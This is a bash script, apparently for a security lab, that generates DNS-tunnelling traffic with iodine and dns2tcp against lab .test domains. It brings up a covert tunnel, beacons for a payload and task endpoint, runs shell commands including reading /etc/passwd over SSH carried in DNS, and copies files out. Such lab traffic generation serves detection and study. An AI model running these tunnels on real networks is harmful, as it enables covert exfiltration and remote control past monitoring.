#!/usr/bin/env bash
# DNS tunnelling through the lab resolver (it forwards t1.tun.test to iodined and t2.tun.test to
# dns2tcpd on the internet host). iodine: brings up the tunnel, then pings and downloads through it.
# dns2tcp: an SSH session and a file copy carried in DNS queries.
# Usage: tunnel.sh iodine|dns2tcp SECONDS  (in the attacker's namespace; needs RUN and DNS set)
set -u
case "${1:-}" in -h|--help) sed -n '2,6p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;; esac
[ $# -eq 2 ] || { sed -n '2,6p' "$0" | sed 's/^# \{0,1\}//' >&2; exit 2; }
MODE=$1 END=$(( $(date +%s) + $2 ))
SSH_OPTS=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -i "$RUN/client_key")
case $MODE in
  iodine)
    iodine -f -r -P tunnelpw "${DNS:-10.88.0.53}" t1.tun.test & pid=$!
    for i in $(seq 1 30); do ip addr show dns0 2>/dev/null | grep -q 172.30.7 && break; sleep 1; done
    ping -c 5 172.30.7.1
    while [ "$(date +%s)" -lt "$END" ]; do
      curl -s -m 20 -o /dev/null -r 0-$((20000 + RANDOM % 60000)) http://172.30.7.1/update.bin
      curl -s -m 10 -o /dev/null http://172.30.7.1/api/task; sleep 2
    done
    kill $pid ;;
  dns2tcp)
    dns2tcpc -z t2.tun.test -r ssh -l 2222 "${DNS:-10.88.0.53}" & pid=$!
    sleep 2
    { sleep 2; for c in id uname\ -a "ls -la" "cat /etc/passwd | head -5"; do echo "$c"; sleep 2; done; echo exit; } |
      ssh -tt -p 2222 "${SSH_OPTS[@]}" fmlab@127.0.0.1
    while [ "$(date +%s)" -lt "$END" ]; do
      timeout 25 scp -P 2222 "${SSH_OPTS[@]}" fmlab@127.0.0.1:ftp/note1.txt "${SCRATCH:-.}/n$$.txt"; rm -f "${SCRATCH:-.}/n$$.txt"; sleep 3
    done
    kill $pid ;;
esac
